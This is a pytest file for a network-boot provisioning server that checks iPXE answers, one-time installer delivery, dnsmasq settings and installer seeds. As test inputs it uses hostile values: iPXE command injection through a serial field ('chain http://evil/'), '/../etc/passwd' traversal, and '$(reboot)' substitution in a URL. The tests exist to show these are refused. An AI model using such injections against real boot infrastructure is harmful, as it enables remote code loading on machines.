"""What machines that start from the network are answered: each gets its installer once, and fails closed."""

from __future__ import annotations

import http.client
import re
import shutil
import subprocess
from collections.abc import Iterator
from dataclasses import replace
from ipaddress import IPv4Interface
from pathlib import Path

import pytest
import urllib3

from provisioner.common.errors import GpuprovError
from provisioner.machines.installer import iso, report, seed
from provisioner.machines.installer.disk_image import DiskImage
from provisioner.machines.installer.ramdisk import Ramdisk
from provisioner.machines.installer.seed import Address, Target
from provisioner.machines.journal import Installation, Journal
from provisioner.machines.netboot import dnsmasq, ipxe, media, network, serve
from provisioner.machines.netboot.ipxe import Asked
from provisioner.machines.providers.hosts import Host

MAC = "52:54:00:00:00:01"
HOST = Host("n1.lab", "train", "10.77.0.11", serial="GPU-0001", mac=MAC)
ASKED = Asked(MAC, "GPU-0001", "4c4c4544-0051-3010-8052-b4c04f4e4d32")
KEY = "ssh-ed25519 " + "A" * 68
TARGET = Target("n1.lab", "ubuntu", KEY, ("GPU-0001",), "ab" * 16)


def installation(step: str, serial: str = "GPU-0001") -> Installation:
    return Installation("n1.lab", serial, step)


@pytest.mark.parametrize(
    ("previous", "machine_request", "host", "installs", "reason"),
    [
        (None, ASKED, HOST, True, ""),
        (installation("chosen"), ASKED, HOST, True, ""),
        (installation("offered"), ASKED, HOST, True, ""),
        (installation("started"), ASKED, HOST, False, "given its installer already"),
        (installation("installed"), ASKED, HOST, False, "it is installed"),
        (installation("failed"), ASKED, HOST, False, "install.reinstall"),
        (installation("attaching"), ASKED, HOST, False, ""),  # a step of another way to install
        (None, replace(ASKED, serial="GPU-0002"), HOST, False, "cluster.yaml says GPU-0001"),
        (None, replace(ASKED, serial="gpu-0001 "), HOST, True, ""),
        (None, Asked(MAC), HOST, False, "no serial number and no UUID"),
        (None, Asked(MAC, "To Be Filled By O.E.M.", "0" * 8 + "-0000-0000-0000-" + "0" * 12), HOST, False, "no serial"),
        (None, ASKED, replace(HOST, serial=""), False, "cluster.yaml has no serial for it: it shows GPU-0001"),
        (installation("installed", "GPU-0007"), ASKED, replace(HOST, serial=""), False, "has no serial"),
        (installation("installed", "GPU-0007"), ASKED, HOST, True, ""),  # cluster.yaml names the new one
        (installation("installed", ASKED.uuid), ASKED, HOST, False, "it is installed"),  # one name of two
        (None, replace(ASKED, serial="x\nchain http://evil/"), replace(HOST, serial=""), False, "it shows 4c4c4544-"),
    ],
)  # fmt: skip
def test_what_a_machine_is_to_do(
    previous: Installation | None, machine_request: Asked, host: Host, installs: bool, reason: str
) -> None:
    answer = ipxe.decide(host, previous, machine_request)
    assert answer.install is installs
    assert reason in answer.why
    assert bool(answer.why) is not installs


def test_no_text_of_a_machine_is_a_command_of_its_script() -> None:
    script = ipxe.from_disk("it is ${serial} && chain http://evil/ || exit\nshell")
    assert script.splitlines() == [
        "#!ipxe",
        "echo gpuprov: starting from the machine's own disk: it is ??serial? ?? chain http://evil/ ?? exit?shell",
        "exit 1",
    ]


@pytest.fixture
def answers(tmp_path: Path) -> Iterator[serve.Answers]:
    with serve.serving("127.0.0.1", 0, make_answers(tmp_path)) as served_answers:
        yield served_answers


def make_answers(folder: Path) -> serve.Answers:
    def make(host: Host, current: Installation, request: Asked, url: str) -> media.Media:
        assert (host.name, request.mac, current.token in url) == ("n1.lab", MAC, True)
        files = {name: folder / name for name in ("linux", "initrd.gz", "user-data")}
        for name, file in files.items():
            file.write_bytes(name.encode() * 100_000)
        return media.Media(files, "auto=true")

    lines: list[str] = []
    served_answers = serve.Answers(
        {MAC: HOST}, Journal(folder / "netboot.json"), make, lambda _, line: lines.append(line)
    )
    served_answers.told.__dict__["said"] = lines
    return served_answers


def get(answers: serve.Answers, path: str, *, ends: bool = True, part: str = "") -> tuple[int, bytes]:
    port = int(answers.url.rpartition(":")[2])
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
    connection.request("GET", path, headers={"Range": part} if part else {})
    response = connection.getresponse()
    body = response.read() if ends else response.read(1000)
    connection.close()
    return response.status, body


def step(answers: serve.Answers) -> str:
    entry = answers.journal.load().get("n1.lab")
    return entry.step if entry else ""


WHO = "/machine?mac=52-54-00-00-00-01&serial=GPU-0001&uuid="


def token(answers: serve.Answers) -> str:
    return answers.journal.load()["n1.lab"].token


def test_a_machine_is_given_its_installer_once(answers: serve.Answers, tmp_path: Path) -> None:
    """A network boot that repeats itself (no BMC, the network first in the boot order) ends with the first whole
    installer, whether its end is heard of or not, and whether this program was started anew or not."""
    assert b"chain --replace " + answers.url.encode() in get(answers, "/boot.ipxe")[1]
    script = get(answers, WHO)[1].decode()
    assert script.splitlines()[2:] == [
        f"kernel {answers.url}/{token(answers)}/linux initrd=initrd.gz auto=true || exit 1",
        f"initrd --name initrd.gz {answers.url}/{token(answers)}/initrd.gz || exit 1", "boot || exit 1",
    ]  # fmt: skip
    assert step(answers) == "offered"
    assert get(answers, f"/{token(answers)}/linux") == (200, b"linux" * 100_000)
    get(answers, f"/{token(answers)}/initrd.gz", ends=False)  # the line is cut
    assert step(answers) == "offered"
    assert b"kernel" in get(answers, WHO)[1], "nothing can have been installed yet"
    assert get(answers, f"/{token(answers)}/initrd.gz", part="bytes=0-9") == (200, b"initrd.gz" * 100_000)
    assert step(answers) == "started"
    assert b"exit 1" in get(answers, WHO)[1]
    assert get(answers, f"/{token(answers)}/initrd.gz")[0] == get(answers, f"/{token(answers)}/linux")[0] == 404
    assert get(answers, f"/{token(answers)}/user-data", part="bytes=0-8") == (206, b"user-data")
    with serve.serving("127.0.0.1", 0, make_answers(tmp_path)) as restarted:
        assert b"kernel" not in get(restarted, WHO)[1]
        assert get(restarted, f"/{token(restarted)}/initrd.gz")[0] == 404


def test_two_machines_of_one_name_do_not_both_get_it(answers: serve.Answers) -> None:
    """A copy of a machine's request beside the machine itself: one of them gets the last byte."""
    get(answers, WHO)
    known = token(answers)
    assert answers.started(known)
    assert not answers.started(known)


@pytest.mark.parametrize(
    "path",
    [
        "/machine?mac=52-54-00-00-00-09&serial=GPU-0001", "/machine?mac=52-54-00-00-00-01&serial=GPU-0009",
        "/machine?mac=52-54-00-00-00-01", "/machine", "/machine?" + "&".join(f"a{n}=1" for n in range(99)),
    ],
)  # fmt: skip
def test_who_is_not_meant_starts_from_its_own_disk(answers: serve.Answers, path: str) -> None:
    status, script = get(answers, path)
    assert (status, script.splitlines()[0], script.splitlines()[-1]) == (200, b"#!ipxe", b"exit 1")
    assert step(answers) == ""


@pytest.mark.parametrize("path", ["/", "/../etc/passwd", "/" + "ab" * 16 + "/linux", "/" + "ab" * 16 + "/installed"])
def test_nothing_else_is_served(answers: serve.Answers, path: str) -> None:
    get(answers, WHO)
    assert get(answers, path) == (404, b"")
    assert step(answers) == "offered"


def test_what_an_installer_reports(answers: serve.Answers) -> None:
    """Its end is news; that it refused is a failure, after which only `reinstall` begins anew. Neither is heard before
    it can have begun."""
    get(answers, WHO)
    assert get(answers, f"/{token(answers)}/refused/data")[0] == 404
    get(answers, f"/{token(answers)}/initrd.gz")
    assert get(answers, f"/{token(answers)}/installed") == (200, b"")
    assert step(answers) == "started", "ssh says that it is installed"
    assert get(answers, f"/{token(answers)}/refused/nonsense")[0] == 404
    assert get(answers, f"/{token(answers)}/refused/data")[0] == 200
    assert step(answers) == "failed"
    assert "was not installed, nothing was written: a disk of it holds data" in answers.told.__dict__["said"]
    assert b"install.reinstall" in get(answers, WHO)[1]


def test_who_claims_a_machine_without_a_serial_gets_nothing_and_locks_nobody_out(tmp_path: Path) -> None:
    own_answers = make_answers(tmp_path)
    own_answers.hosts = {MAC: replace(HOST, serial="")}
    with serve.serving("127.0.0.1", 0, own_answers) as answers:
        assert b"kernel" not in get(answers, "/machine?mac=52-54-00-00-00-01&serial=ATTACKER1&uuid=")[1]
        assert step(answers) == ""
        answers.hosts = {MAC: HOST}  # the operator has written down what the label says
        assert b"kernel" in get(answers, WHO)[1]


def test_a_token_is_given_to_the_mac_address_that_it_is_for(tmp_path: Path) -> None:
    own_answers = make_answers(tmp_path)
    own_answers.neighbour = {"127.0.0.1": "52:54:00:00:00:66"}.get  # type: ignore[assignment]
    with serve.serving("127.0.0.1", 0, own_answers) as answers:
        assert b"another MAC address" in get(answers, WHO)[1]
        assert step(answers) == ""
        answers.neighbour = {"127.0.0.1": MAC}.get  # type: ignore[assignment]
        assert b"kernel" in get(answers, WHO)[1]


def test_the_first_host_key_that_is_reported_counts(answers: serve.Answers) -> None:
    get(answers, WHO)
    get(answers, f"/{token(answers)}/initrd.gz")
    assert answers.reported(token(answers), ["installed"], KEY.encode())
    assert not answers.reported(token(answers), ["installed"], KEY.replace("A", "B").encode())
    assert answers.reported(token(answers), ["installed"], KEY.encode())
    assert answers.journal.load()["n1.lab"].host_key == KEY
    assert any("a second host key" in line for line in answers.told.__dict__["said"])


def test_who_has_an_address_is_read_from_the_kernels_table(tmp_path: Path) -> None:
    table = tmp_path / "arp"
    table.write_text(
        "IP address       HW type     Flags       HW address            Mask     Device\n"
        "10.77.0.11       0x1         0x2         52:54:00:00:00:01     *        eth1\n"
        "10.77.0.12       0x1         0x0         00:00:00:00:00:00     *        eth1\n"
    )
    known = [network.mac_of(address, table) for address in ("10.77.0.11", "10.77.0.12", "10.77.0.1", "127.0.0.1")]
    assert known == [MAC, "", "", ""]
    assert network.mac_of("10.77.0.11", tmp_path / "none") == ""


def test_dnsmasq_answers_known_machines_on_one_interface(tmp_path: Path) -> None:
    own_interface = IPv4Interface("10.77.0.1/24")
    machines = [dnsmasq.Machine(MAC, "10.77.0.11")]
    static = dnsmasq.config(
        "eth1", own_interface, machines, "http://10.77.0.1:8077/boot.ipxe", proxy=False, dns=["10.77.0.2"]
    )
    proxy = dnsmasq.config("eth1", own_interface, machines, "http://10.77.0.1:8077/boot.ipxe", proxy=True)
    for text in (static, proxy):
        lines = text.splitlines()
        assert {"port=0", "interface=eth1", "bind-dynamic", "dhcp-ignore=tag:!known", "except-interface=lo"} <= {*lines}
        assert not [line for line in lines if line.startswith("dhcp-range") and "static" not in line.split(",")
                    and "proxy" not in line.split(",")], "an address for whoever asks"  # fmt: skip
        if shutil.which("dnsmasq"):
            file = tmp_path / "dnsmasq.conf"
            file.write_text(text.replace(str(dnsmasq.BINARIES), str(tmp_path)))
            subprocess.run(["dnsmasq", "--test", f"--conf-file={file}"], check=True, capture_output=True, timeout=20)
    assert "dhcp-host=52:54:00:00:00:01,10.77.0.11" in static.splitlines()
    assert "dhcp-host=52:54:00:00:00:01" in proxy.splitlines()


def test_what_the_installers_are_told_for_the_network() -> None:
    """A fixed address, because nobody answers DHCP afterwards; and where the end is reported."""
    url = f"http://10.77.0.1:8077/{'ab' * 16}"
    fixed = Address(IPv4Interface("10.77.0.11/24"), "10.77.0.254", ("10.77.0.2",))
    fixed_target = replace(TARGET, fixed=fixed, report=url, mac=MAC)
    text = seed.preseed(fixed_target)
    assert "d-i netcfg/get_ipaddress string 10.77.0.11\nd-i netcfg/get_netmask string 255.255.255.0\n" in text
    assert f"{{ wget -q -T 20 -O /dev/null {url}/installed || true; }}" in text
    assert f"report='{url}'" in seed.guard(fixed_target)
    ubuntu = seed.autoinstall(fixed_target)
    assert f"wget -q -T 60 -O /run/gpuprov-guard.sh {url}/guard.sh" in ubuntu
    assert "10.77.0.11/24" in ubuntu
    assert "wget" not in seed.preseed(TARGET) + seed.autoinstall(TARGET)
    assert "netcfg/get_ipaddress" not in seed.preseed(TARGET)
    with pytest.raises(GpuprovError, match="cannot be passed to an installer"):
        replace(TARGET, report="http://10.0.0.1:80/$(reboot)")


def test_a_refusal_is_reported_by_a_word(tmp_path: Path) -> None:
    """The guard as the installer runs it, on this computer, whose serial number is another one."""
    heard = tmp_path / "heard"
    for name in ("poweroff", "sleep", "sync"):
        (tmp_path / name).write_text("#!/bin/sh\nexit 0\n")
    (tmp_path / "wget").write_text(f'#!/bin/sh\necho "$@" >> {heard}\n')
    for file in tmp_path.iterdir():
        file.chmod(0o755)
    script = seed.guard(replace(TARGET, serials=("no-such-machine",), report=f"http://10.0.0.1:80/{'cd' * 16}"))
    script = script.replace("echo o > /proc/sysrq-trigger", "true").replace("/dev/console /dev/ttyS0 /dev/tty1", "")
    (tmp_path / "guard").write_text(script)
    path = {"PATH": f"{tmp_path}:/usr/bin:/bin"}
    subprocess.run(["sh", str(tmp_path / "guard"), "machine"], env=path, timeout=20, check=False)
    assert heard.read_text().split()[-1] == f"http://10.0.0.1:80/{'cd' * 16}/refused/machine"


def test_every_refusal_of_an_installer_is_a_word_that_is_known() -> None:
    folder = Path(report.__file__).parent
    reported_words = {
        term
        for name in ("guard.sh", "disk_image.sh")
        for term in re.findall(r'(?:stop|undo) ".*?" ([a-z-]+)\b', (folder / name).read_text(encoding="utf-8"))
    }
    assert reported_words - {"network"} == set(report.WHY) - {report.AGAIN}, "without a network nothing is reported"


@pytest.mark.skipif(not shutil.which("xorriso"), reason="needs xorriso")
def test_ubuntu_is_started_by_the_kernel_of_its_image(tmp_path: Path) -> None:
    tree, image = tmp_path / "tree", tmp_path / "ubuntu.iso"
    for name in ("vmlinuz", "initrd"):
        (tree / "casper").mkdir(parents=True, exist_ok=True)
        (tree / "casper" / name).write_text(name)
    subprocess.run(["xorriso", "-as", "mkisofs", "-o", str(image), str(tree)], check=True, capture_output=True)
    url = f"http://10.77.0.1:8077/{'ab' * 16}"
    boot_media = media.make("ubuntu-24.04", image, replace(TARGET, report=url), tmp_path / "media" / "one")
    assert boot_media.files["linux"].read_text() == "vmlinuz"
    assert boot_media.files["initrd.gz"].read_text() == "initrd"
    assert boot_media.files["installer.iso"] == image
    assert boot_media.files["user-data"].read_text().startswith("#cloud-config")
    assert f"url={url}/installer.iso autoinstall ds=nocloud;s={url}/ " in boot_media.words
    with pytest.raises(GpuprovError, match="looks for a CD"):
        media.make("debian-12", image, TARGET, tmp_path / "media" / "two")
    with pytest.raises(GpuprovError, match="is a folder"):
        media.make("ubuntu-24.04", tree, TARGET, tmp_path / "media" / "two")
    with pytest.raises(GpuprovError, match="unattended"):
        media.make("rocky-9", image, TARGET, tmp_path / "media" / "two")
    assert iso.LAYOUTS["ubuntu"].kernel == "/casper/vmlinuz"


def test_a_disk_image_is_given_as_kernel_initrd_and_image(tmp_path: Path) -> None:
    for name in ("linux", "initrd.gz", "x.zst"):
        (tmp_path / name).write_bytes(name.encode())
    system = Ramdisk(tmp_path / "linux", tmp_path / "initrd.gz")
    image = DiskImage(tmp_path / "x.zst", "0" * 64, 1 << 20)
    target = replace(TARGET, mac=MAC, report=f"http://10.77.0.1:8077/{'ab' * 16}")
    boot_media = media.of_disk_image(system, image, target, tmp_path / "n1")
    assert set(boot_media.files) == {"linux", "initrd.gz", "disk.zst"}
    assert boot_media.files["initrd.gz"].read_bytes().startswith(b"initrd.gz\x1f\x8b"), "what is told lies behind it"
    assert "boot=gpuprov ip=dhcp" in boot_media.words and "BOOTIF=01-52-54-00-00-00-01" in boot_media.words


def test_an_installer_that_fetches_its_image_is_served_and_its_host_key_kept(tmp_path: Path) -> None:
    (tmp_path / "x.zst").write_bytes(b"disk")
    journal = Journal(tmp_path / "netboot.json")
    started = journal.note(installation("started"), "started")
    answers = serve.Answers({MAC: HOST}, journal, lambda *_: media.Media({}, ""), lambda *_: None)
    answers._media[started.token] = media.Media({"disk.zst": tmp_path / "x.zst"}, "")
    with serve.serving("127.0.0.1", 0, answers), urllib3.PoolManager() as web:
        ours = f"{answers.url}/{started.token}"
        head = web.request("HEAD", f"{ours}/disk.zst")
        assert (head.status, head.headers["Content-Length"]) == (200, "4")
        assert web.request("HEAD", f"{ours}/linux").status == 404
        assert web.request("GET", f"{ours}/disk.zst").data == b"disk"
        assert web.request("POST", f"{answers.url}/{'cd' * 16}/installed", body=KEY).status == 404
        assert web.request("POST", f"{ours}/installed", headers={"Content-Length": "2000"}).status == 413
        assert journal.load()["n1.lab"].host_key == ""
        assert web.request("POST", f"{ours}/installed", body=KEY).status == 200
    assert (journal.load()["n1.lab"].step, journal.load()["n1.lab"].host_key) == ("started", KEY)
